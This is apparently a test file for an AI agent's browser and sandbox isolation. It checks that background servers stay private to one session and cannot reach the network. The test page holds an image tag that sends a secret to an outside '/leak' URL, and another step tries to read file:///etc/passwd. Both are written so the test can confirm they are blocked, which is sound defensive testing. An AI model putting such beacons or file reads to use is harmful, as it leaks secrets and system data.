import { execFileSync } from 'node:child_process';
import { FakeSite } from '../fakes/web-site';
import { BROWSER } from '../harness/browser';
import { ToolBench } from '../harness/tool-bench';

const works = (program: string): boolean => {
  try {
    execFileSync('/bin/sh', ['-c', `command -v ${program}`], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
};
const withBoth = process.env['TEST_SANDBOX'] && BROWSER && works('nsenter') ? describe : describe.skip;

const PORT = 18_124;
const SECRET = 'SECRET-of-the-sandbox';
const SERVER = `
const { createServer } = require('node:http');
const fs = require('node:fs');
createServer((request, response) => {
  const url = new URL(request.url, 'http://x');
  if (url.pathname === '/said') fs.appendFileSync('/tmp/said', url.search + '\\n');
  if (url.pathname === '/away') return response.writeHead(302, { location: 'http://elsewhere.example/' }).end();
  response.writeHead(200, { 'content-type': 'text/html' }).end(
    '<title>Shop</title><h1>Opening hours</h1><form action="/said"><input name="q" aria-label="q"><button>Go</button></form>' +
      '<img src="' + process.argv[3] + '/leak?d=${SECRET}">',
  );
}).listen(${PORT}, process.argv[2]);
`;

withBoth('the browser and the sandbox of a conversation', () => {
  let bench: ToolBench;
  let site: FakeSite;

  beforeAll(async () => {
    site = await FakeSite.start();
    site.html('/leak', 'leaked');
    site.html('/page', '<title>Elsewhere</title><p>of the web</p>');
    bench = await ToolBench.start({
      config: { browser: { executablePath: BROWSER, headless: true, noSandbox: true } },
      env: { OPENCLAW_ALLOW_PRIVATE_ORIGINS: site.url },
    });
    // Written by the assistant: a file that nobody knows of would be somebody else's words.
    await bench.call('write', { path: 'server.cjs', content: SERVER });
  });
  afterAll(async () => {
    await bench.stop();
    await site.stop();
  });

  const serve = (session: string, address = '127.0.0.1'): Promise<string> =>
    bench.call('exec', { command: `node server.cjs ${address} ${site.url}`, background: true }, session);
  const browse = (args: Record<string, unknown>, session: string): Promise<string> =>
    bench.call('browser', args, session);
  const at = (path = '/', host = 'localhost'): string => `http://${host}:${PORT}${path}`;

  it('see each other: what a command serves in the background is opened, read, used and photographed', async () => {
    // Opened at once: a server that is just starting is waited for.
    await serve('shop');
    expect(await browse({ action: 'open', targetUrl: at() }, 'shop')).toMatch(/s\d+: .*\(200\) Shop/);
    expect(await browse({ action: 'snapshot' }, 'shop')).toContain('heading "Opening hours"');
    expect(await browse({ action: 'screenshot' }, 'shop')).toContain(`Screenshot of ${at()}`);
    const [, ref = ''] = /textbox "q" \[ref=(e\d+)\]/.exec(await browse({ action: 'snapshot' }, 'shop')) ?? [];
    const request = { kind: 'type', ref, text: 'nine to five', submit: true };
    expect(await browse({ action: 'act', request }, 'shop')).toContain('/said?q=nine');
    expect(await bench.call('exec', { command: 'cat /tmp/said' }, 'shop')).toContain('?q=nine+to+five');
  }, 60_000);

  it('whatever the server calls its address', async () => {
    for (const [listens, opened] of [
      ['::1', '[::1]'],
      ['::1', 'localhost'],
      ['0.0.0.0', '0.0.0.0'],
      ['127.0.0.1', 'app.localhost'],
    ] as const) {
      const session = `as ${listens} ${opened}`;
      await serve(session, listens);
      expect(await browse({ action: 'open', targetUrl: at('/', opened) }, session)).toContain('(200) Shop');
    }
  }, 120_000);

  it('nobody else does: not another conversation, not the machine', async () => {
    await serve('mine');
    expect(await browse({ action: 'open', targetUrl: at() }, 'mine')).toContain('(200) Shop');
    await expect(fetch(at('/', '127.0.0.1'))).rejects.toThrow();
    const other = await browse({ action: 'open', targetUrl: at(), timeoutMs: 1000 }, 'other');
    expect(other).toContain('not_found');
    expect(other).toContain(`nothing listens on port ${PORT} of localhost`);
    expect(other).toContain('background true');
    expect(await browse({ action: 'snapshot', targetId: 's1' }, 'other')).toContain('there is no tab s1');
  }, 60_000);

  it('a page that is served leads nowhere else: not to the machine, not to the web, by no picture and no redirect', async () => {
    await serve('walled');
    await browse({ action: 'open', targetUrl: at() }, 'walled');
    await browse({ action: 'navigate', targetUrl: at('/away') }, 'walled');
    const shown = await browse({ action: 'snapshot' }, 'walled');
    expect(shown).toContain('elsewhere.example is outside the sandbox, which has no network but localhost');
    expect(site.asked('/leak')).toEqual([]);
    const address = 'http://elsewhere.example/';
    const named = await browse({ action: 'open', targetUrl: address, target: 'sandbox' }, 'walled');
    expect(named).toContain('blocked_address');
    expect(named).toContain('open elsewhere.example with target "host"');
    const file = await browse({ action: 'open', targetUrl: 'file:///etc/passwd', target: 'sandbox' }, 'walled');
    expect(file).toContain('blocked_address');
  }, 60_000);

  it('pages of the web stay in the browser of the machine, and each call finds the one it is about', async () => {
    await serve('both');
    await browse({ action: 'open', targetUrl: at() }, 'both');
    expect(await browse({ action: 'open', targetUrl: `${site.url}/page` }, 'both')).toMatch(/t\d+: .*Elsewhere/);
    expect(await browse({ action: 'snapshot' }, 'both')).toContain('of the web');
    expect(await browse({ action: 'snapshot', targetId: 's1' }, 'both')).toContain('Opening hours');
    // The last one that was used is the one that is meant.
    expect(await browse({ action: 'snapshot' }, 'both')).toContain('Opening hours');
    expect(await browse({ action: 'tabs' }, 'both')).toContain('Shop');
    expect(await browse({ action: 'tabs', target: 'host' }, 'both')).toContain('Elsewhere');
  }, 60_000);

  it('its pages are the words of what may be in the room, and no web page', async () => {
    await serve('trusted');
    await browse({ action: 'open', targetUrl: at() }, 'trusted');
    await browse({ action: 'snapshot' }, 'trusted');
    expect(await originsIn('trusted')).toEqual(['workspace']);
    // What was read in the web and typed into the page may be what the page says from then on.
    await browse({ action: 'open', targetUrl: `${site.url}/page` }, 'trusted');
    await browse({ action: 'snapshot' }, 'trusted');
    await browse({ action: 'snapshot', targetId: 's1' }, 'trusted');
    expect((await originsIn('trusted')).at(-1)).toBe('web');
  }, 60_000);

  const originsIn = async (sessionKey: string): Promise<string[]> => {
    const { payload } = await bench.client.call('chat.history', { sessionKey, limit: 50 });
    const messages = payload?.['messages'] as {
      role: string;
      toolName?: string;
      content: { type: string; text?: string; origin?: string }[];
    }[];
    const parts = messages
      .filter(({ role, toolName }) => role === 'toolResult' && toolName === 'browser')
      .flatMap(({ content }) => content.map(({ origin = '' }) => origin));
    return [...new Set(parts)];
  };
});
